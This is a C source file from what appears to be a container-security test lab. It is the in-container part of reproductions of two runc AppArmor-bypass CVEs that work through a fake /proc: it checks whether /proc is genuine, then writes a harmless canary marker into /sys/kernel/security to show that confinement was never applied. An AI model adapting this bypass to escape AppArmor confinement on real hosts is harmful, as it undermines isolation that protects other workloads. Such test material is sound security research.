/*
 * CVE-2019-16884 and CVE-2023-28642, the container's part (the image supplied the fake procfs, as
 * a volume over /proc or through a /proc symlink; this process only shows the outcome). Shared by
 * runc-proc-volume-apparmor-bypass and runc-proc-symlink-apparmor-bypass (their attack.c include
 * this file): it reports what its /proc is and what the runtime's label write left there,
 * waits for the manager to note its real label, then writes a marker into /sys/kernel/security,
 * which every container AppArmor profile here denies. The marker lands (and shows on the host)
 * only when the profile was never applied.
 */
#define _GNU_SOURCE
#include "bwlab.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/statfs.h>
#include <time.h>
#include <unistd.h>

#ifndef PROC_SUPER_MAGIC
#define PROC_SUPER_MAGIC 0x9fa0
#endif

#define TARGET "/sys/kernel/security/bw-marker"
#define MARKER "BW-CANARY-unconfined\n"

static void sleep_ms(long ms) {
  struct timespec t = {ms / 1000, (ms % 1000) * 1000000L};
  nanosleep(&t, NULL);
}

/* What the runtime's "exec <profile>" write hit: on the fake procfs it is readable plain text. */
static void report_proc(void) {
  struct statfs st;
  char detail[512];
  if (statfs("/proc", &st) != 0) {
    bw_step("container view: what /proc is", 0, errno, "statfs /proc");
    return;
  }
  const char *attr = "/proc/self/attr/apparmor/exec";
  if (access(attr, F_OK) != 0) attr = "/proc/self/attr/exec";
  char buf[256] = "";
  int fd = open(attr, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    buf[strcspn(buf, "\n")] = 0;
    close(fd);
  }
  snprintf(detail, sizeof detail, "/proc is %s; %s holds \"%s\"",
           st.f_type == PROC_SUPER_MAGIC ? "procfs" : "NOT procfs (a plain directory)", attr, buf);
  bw_step("container view: what /proc is", 1, 0, detail);
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  report_proc();
  /* Let the manager read our real label from the host, then go on (bounded). */
  if (bw_write_file("/tmp/bw-ready", "1\n") != 0) return 1;
  for (int i = 0; i < 300 && access("/tmp/bw-go", F_OK) != 0; i++) sleep_ms(10);

  int fd = open(TARGET, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  if (fd < 0) {
    bw_step("write " TARGET " (denied by any applied container profile)", 0, errno, "");
    return 1;
  }
  ssize_t w = write(fd, MARKER, strlen(MARKER));
  int e = errno;
  close(fd);
  if (w != (ssize_t)strlen(MARKER)) {
    bw_step("write " TARGET " (denied by any applied container profile)", 0, w < 0 ? e : EIO, "");
    return 1;
  }
  bw_step("write " TARGET " (denied by any applied container profile)", 1, 0, "");
  return 0;
}
